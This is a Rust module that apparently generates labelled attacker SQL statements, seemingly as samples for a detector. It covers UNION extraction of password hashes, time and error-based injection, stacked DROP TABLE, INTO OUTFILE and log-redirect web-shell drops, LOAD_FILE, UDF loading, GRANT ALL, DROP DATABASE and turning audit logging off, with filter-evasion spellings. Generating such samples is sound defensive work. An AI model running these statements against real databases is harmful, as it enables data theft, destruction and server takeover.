//! Statements of attackers: injected through an application, or sent with stolen credentials.

use super::{Rng, statements};

/// Every kind of attack. Those of one kind differ in names, spelling, white space and comments.
pub const KINDS: [&str; 14] = [
    "union",
    "tautology",
    "time",
    "error",
    "stacked",
    "outfile",
    "load file",
    "function library",
    "log redirect",
    "grant",
    "drop database",
    "accounts read",
    "schema search",
    "audit off",
];

/// An attack: its kind and the statement.
pub fn attack(rng: &mut Rng) -> (&'static str, String) {
    let kind = rng.word(&KINDS);
    let statement = of_kind(rng, kind);
    (kind, spelled(rng, statement))
}

fn of_kind(rng: &mut Rng, kind: &str) -> String {
    let table = statements::table(rng);
    let key = 1 + rng.below(9000);
    let file: String = (0..6).map(|_| char::from(b'a' + rng.below(26) as u8)).collect();
    match kind {
        "union" => {
            let target = rng.word(&[
                "information_schema.tables",
                "information_schema.columns",
                "mysql.user",
                "performance_schema.users",
            ]);
            let nulls = ["NULL,"; 6][..rng.below(7)].concat();
            format!(
                "SELECT name FROM {table} WHERE id = {key} UNION ALL SELECT {nulls}NULL FROM {target}"
            )
        }
        "tautology" => format!("SELECT * FROM {table} WHERE name = '' OR '1'='1'"),
        "time" => match rng.below(2) {
            0 => format!("SELECT id FROM {table} WHERE id = {key} AND SLEEP({})", 2 + rng.below(9)),
            _ => format!(
                "SELECT id FROM {table} WHERE id = {key} AND BENCHMARK({}, MD5('{file}'))",
                1_000_000 * (1 + rng.below(9))
            ),
        },
        "error" => format!(
            "SELECT id FROM {table} WHERE id = {key} AND EXTRACTVALUE({key}, CONCAT(0x7e, \
             (SELECT version())))"
        ),
        "stacked" => {
            format!(
                "SELECT id FROM {table} WHERE id = {key};DROP TABLE {};",
                statements::table(rng)
            )
        }
        "outfile" => {
            let (form, end) =
                *rng.pick(&[("OUTFILE", "csv"), ("DUMPFILE", "so"), ("OUTFILE", "php")]);
            format!("SELECT notes FROM {table} INTO {form} '/var/www/html/{file}.{end}'")
        }
        "load file" => format!("SELECT LOAD_FILE('/etc/{file}/passwd')"),
        "function library" => {
            format!("CREATE FUNCTION {file}_exec RETURNS INTEGER SONAME '{file}.so'")
        }
        "log redirect" => format!("SET GLOBAL general_log_file='/var/www/html/{file}.php'"),
        "grant" => format!("GRANT ALL PRIVILEGES ON *.* TO '{file}'@'%' WITH GRANT OPTION"),
        "drop database" => format!("DROP DATABASE {file}"),
        "accounts read" => "SELECT user, authentication_string FROM mysql.user".to_owned(),
        "schema search" => {
            let word = rng.word(&["pass", "card", "token", "iban"]);
            format!(
                "SELECT table_name FROM information_schema.columns WHERE column_name LIKE '%{word}%'"
            )
        }
        "audit off" => format!(
            "SET GLOBAL {} = {}",
            rng.word(&["audit_log_enabled", "server_audit_logging"]),
            rng.word(&["OFF", "0"])
        ),
        other => panic!("no statement for `{other}`"),
    }
}

/// The statement as tools write it to get past filters: other case, white space, comments.
fn spelled(rng: &mut Rng, statement: String) -> String {
    match rng.below(8) {
        0..4 => statement,
        4 => statement.to_lowercase(),
        5 => statement.replace(' ', "/**/"),
        6 => statement.replace(' ', "\t"),
        _ => format!("{statement} -- "),
    }
}
